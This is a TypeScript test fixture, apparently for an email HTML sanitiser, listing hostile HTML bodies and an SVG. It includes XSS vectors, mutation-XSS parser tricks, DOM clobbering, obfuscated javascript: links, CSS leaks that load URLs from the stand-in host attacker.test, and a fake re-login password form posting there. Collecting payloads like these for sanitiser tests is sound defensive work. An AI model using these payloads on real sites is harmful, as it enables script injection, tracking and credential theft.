// Anything that runs is noticed: tests watch the console and dialogs.
const RUN = "console.log('ran');alert('ran')";
const AWAY = 'https://attacker.test';

/** HTML bodies that try to run scripts, contact another host, or take over the page. Each is one kind of attack. */
export const hostileBodies: readonly (readonly [title: string, html: string])[] = [
  [
    'all kinds of scripts',
    `<script>${RUN}</script><script src="${AWAY}/script.js"></script><script type="module">${RUN}</script>
<svg><script>${RUN}</script></svg><svg><script href="data:text/javascript,${RUN}"/></svg><math><script>${RUN}</script></math>
<SCRIPT\x20TYPE="text/javascript">${RUN}</SCRIPT><scr<script>ipt>${RUN}</scr</script>ipt>
<script>${RUN}`,
  ],
  [
    'event handlers that fire without user action',
    `<body onload="${RUN}" onpageshow="${RUN}" onfocus="${RUN}" onmessage="${RUN}">
<img src=x onerror="${RUN}"><img src="cid:missing" onerror="${RUN}"><image src=x onerror="${RUN}">
<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>
<details open ontoggle="${RUN}"><summary>x</summary></details>
<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"></select><div tabindex=1 autofocus onfocus="${RUN}"></div>
<video onerror="${RUN}"><source src=x onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio>
<style>@keyframes a{from{left:0}to{left:1px}}</style><p style="animation:a 1s" onanimationstart="${RUN}" onanimationend="${RUN}">x</p>
<p style="transition:all 1ms" ontransitionend="${RUN}">x</p><marquee onstart="${RUN}">x</marquee>
<iframe onload="${RUN}"></iframe><object data=x onerror="${RUN}"></object><link rel=stylesheet href=x onerror="${RUN}">`,
  ],
  [
    'markup that sanitisers and browsers parse differently',
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>
<svg><style><img src=x onerror="${RUN}"></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">
<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">
<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>
<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp><plaintext-x><!--><img src=x onerror="${RUN}">-->
<div><template shadowrootmode="open"><img src=x onerror="${RUN}"></template></div>
<template><img src=x onerror="${RUN}"></template><select><template><img src=x onerror="${RUN}"></template></select>
<![CDATA[<img src=x onerror="${RUN}">]]><?xml <img src=x onerror="${RUN}">?>`,
  ],
  [
    'DOM clobbering',
    `<form id=a><input name=attributes><input name=nodeName><input name=removeChild><input name=parentNode><img src=x onerror="${RUN}"></form>
<form name=body></form><form name=documentElement></form><img name=querySelectorAll><img name=createElement>
<a id=location href="${AWAY}">x</a><a id=top name=top>x</a><form onclick="${RUN}"><input name=children><input name=firstChild></form>`,
  ],
  [
    'frames, plugins and other documents',
    `<iframe src="${AWAY}/frame"></iframe><iframe srcdoc="<script>${RUN}</script><img src=${AWAY}/srcdoc>"></iframe>
<iframe src="javascript:${RUN}"></iframe><frameset><frame src="${AWAY}/frameset"></frameset>
<object data="${AWAY}/object"></object><object data="data:text/html,<script>${RUN}</script>"></object>
<embed src="${AWAY}/embed"><embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">
<applet code="${AWAY}/applet"></applet><portal src="${AWAY}/portal"></portal><fencedframe src="${AWAY}/fenced"></fencedframe>`,
  ],
  [
    'meta refresh, base and link elements',
    `<base href="${AWAY}/" target="_top"><meta http-equiv="refresh" content="0;url=${AWAY}/refresh">
<meta http-equiv="Refresh" content="0;url=javascript:${RUN}"><meta http-equiv="Content-Security-Policy" content="default-src *">
<meta http-equiv="set-cookie" content="taken=1"><img src="relative.png">
<link rel=stylesheet href="${AWAY}/style.css"><link rel=preload as=image href="${AWAY}/preload.png">
<link rel=prefetch href="${AWAY}/prefetch"><link rel=dns-prefetch href="//prefetch.attacker.test"><link rel=preconnect href="${AWAY}">
<link rel=icon href="${AWAY}/icon.png"><link rel=manifest href="${AWAY}/manifest"><link rel=modulepreload href="${AWAY}/module.js">`,
  ],
  [
    'forms that submit to another host',
    `<form action="${AWAY}/form" method=post><label>Password <input name=password type=password autofocus></label><button>Log in again</button>
<button formaction="${AWAY}/formaction">Other</button><input type=image src="${AWAY}/image.png" formaction="javascript:${RUN}"></form>
<form action="/api/v1/messages" method=post><input type=submit value="Free gift"></form><isindex action="javascript:${RUN}" type=submit>`,
  ],
  [
    'URLs in every attribute that loads one',
    `<img src="${AWAY}/img.png"><img srcset="${AWAY}/1x.png 1x, ${AWAY}/2x.png 2x"><img src="//attacker.test/relative.png">
<img src=" https://attacker.test/space.png"><img src="https:/attacker.test/slash.png"><img src="&#104;ttps://attacker.test/entity.png">
<img src="http:\\\\attacker.test\\backslash.png"><img src="x" lowsrc="${AWAY}/lowsrc.png" dynsrc="${AWAY}/dynsrc.png" longdesc="${AWAY}/longdesc">
<picture><source srcset="${AWAY}/source.png"><img src="${AWAY}/picture.png"></picture>
<video src="${AWAY}/video.mp4" poster="${AWAY}/poster.png" autoplay><track src="${AWAY}/track.vtt" default></video>
<audio src="${AWAY}/audio.mp3" autoplay></audio><bgsound src="${AWAY}/bgsound.wav"><table background="${AWAY}/table.png"><tr><td background="${AWAY}/td.png">x</td></tr></table>
<body background="${AWAY}/body.png"><svg><image href="${AWAY}/svg-image.png"/><image xlink:href="${AWAY}/svg-xlink.png"/><use href="${AWAY}/use.svg#x"/><filter id=f><feImage href="${AWAY}/fe.png"/></filter></svg>
<a href="#x" ping="${AWAY}/ping">x</a><q cite="${AWAY}/cite">x</q><html manifest="${AWAY}/manifest"><img src="ws://attacker.test/ws"><img src="ftp://attacker.test/ftp.png"><img src="blob:${AWAY}/blob">`,
  ],
  [
    'style sheets that load URLs',
    `<style>@import "${AWAY}/import.css"; @import url(${AWAY}/import2.css) layer(x); @\\69mport url(${AWAY}/import3.css);
@font-face{font-family:leak;src:url(${AWAY}/font.woff2);unicode-range:U+0-10FFFF} body{font-family:leak}
body{background:url(${AWAY}/bg.png)} p{background:\\75rl(${AWAY}/escaped.png)} p::before{content:url(${AWAY}/content.png)}
li{list-style-image:url("${AWAY}/list.png")} p{background-image:image-set(url(${AWAY}/set.png) 1x)} p{background-image:-webkit-image-set("${AWAY}/wset.png" 1x)}
p{cursor:url(${AWAY}/cursor.cur),auto;border-image:url(${AWAY}/border.png) 1;mask:url(${AWAY}/mask.svg);filter:url(${AWAY}/filter.svg#f);clip-path:url(${AWAY}/clip.svg#c)}
:root{--x:url(${AWAY}/variable.png)} b{background:var(--x)} i{background:u/**/rl(${AWAY}/comment.png)} p{src:url(${AWAY}/src.png);shape-outside:url(${AWAY}/shape.png)}
input[value^="a"]{background:url(${AWAY}/value-a.png)} a:visited{background:url(${AWAY}/visited.png)} body:has(p){background:url(${AWAY}/has.png)}
@media (min-width:1px){body{background:url(${AWAY}/media.png)}} @supports (display:block){p{background:url(${AWAY}/supports.png)}} @namespace x url(${AWAY}/ns);</style>
<p style="background:url('${AWAY}/inline.png')">a</p><b>b</b><i>i</i><ul><li>x</li></ul><p style="background:url(&quot;${AWAY}/quoted.png&quot;)">c</p>
<p style="behavior:url(${AWAY}/x.htc);-moz-binding:url(${AWAY}/x.xml#x);width:expression(${RUN})">d</p><svg><style>rect{fill:url(${AWAY}/fill.svg#x)}</style><rect width=9 height=9 style="fill:url(${AWAY}/fill2.svg#x)"/></svg>
<style>p{background:url(${AWAY}/unclosed.png`,
  ],
  [
    'style sheets with hidden URLs',
    String.raw`<style>@im\70ort url(${AWAY}/import4.css); @im\port "${AWAY}/import5.css";
p{--a:u\72 l(${AWAY}/hidden1.png);background:var(--a)} b{--b:image-set("${AWAY}/hidden2.png" 1x);background:var(--b)}
i{background:var(--none, u\72 l(${AWAY}/hidden3.png))} u{--c:"${AWAY}/hidden4.png";background-image:image-set(var(--c) 1x)}
@media (min-width:1px){s{background:var(--none, -webkit-image-set("${AWAY}/hidden5.png" 1x))} s{& b{background:var(--d,\75rl(${AWAY}/hidden6.png))}}}
@keyframes k{to{background-image:var(--none, u\72l(${AWAY}/hidden7.png))}} q{animation:k 1s infinite}</style>
<p>a</p><b>b</b><i>c</i><u>d</u><s>e<b>f</b></s><q>g</q><p style="--e:u\72 l(${AWAY}/hidden8.png);background:var(--e)">h</p>
<p style="background:var(--none, image-set('${AWAY}/hidden9.png' 1x))">i</p>`,
  ],
  [
    'links that run scripts or navigate the page',
    [
      `javascript:${RUN}`,
      `JaVaScRiPt:${RUN}`,
      `java&#10;script:${RUN}`,
      `&#1;javascript:${RUN}`,
      `&#106;avascript:${RUN}`,
      `javascript&colon;${RUN}`,
      `java&Tab;script:${RUN}`,
      ` javascript:${RUN}`,
      `vbscript:${RUN}`,
      `data:text/html,<script>${RUN}</script>`,
      `view-source:${AWAY}`,
      'file:///etc/passwd',
    ]
      .map((address) => `<p><a href="${address.replaceAll('"', '&quot;')}">press me</a></p>`)
      .join('\n') +
      `<svg><a xlink:href="javascript:${RUN}"><text y=20>press me</text></a></svg><math><mrow href="javascript:${RUN}">press me</mrow></math>
<map name=m><area href="javascript:${RUN}" coords="0,0,9,9"></map><a href="#top" target=_top>press me</a>`,
  ],
  [
    'images that are documents',
    `<img src="cid:evil.svg@attacker.test"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'><image href='${AWAY}/data-svg.png'/></svg>">
<img src="cid:../../../../api/v1/info"><img src="cid:%2e%2e%2fraw"><img src='cid:x" onerror="${RUN}'><img src="cid:"><img src="/api/v1/messages"><img src="cid:a?b#c">`,
  ],
  [
    'an overlay on top of everything',
    `<style>html,body{position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;background:#fff}*{pointer-events:none}</style>
<div style="position:fixed;inset:0;width:200000px;height:200000px;z-index:2147483647;background:red">Your inbox is empty</div><dialog open>x</dialog><div popover=auto>x</div>`,
  ],
];

/** An SVG that would run scripts and load images if it were treated as a document. */
export const evilSvg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="${RUN}">
<script>${RUN}</script><image xlink:href="${AWAY}/cid-svg.png" width="9" height="9"/>
<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${AWAY}/foreign.png" onerror="${RUN}"/></body></foreignObject>
<rect width="40" height="40" fill="teal"/></svg>`;
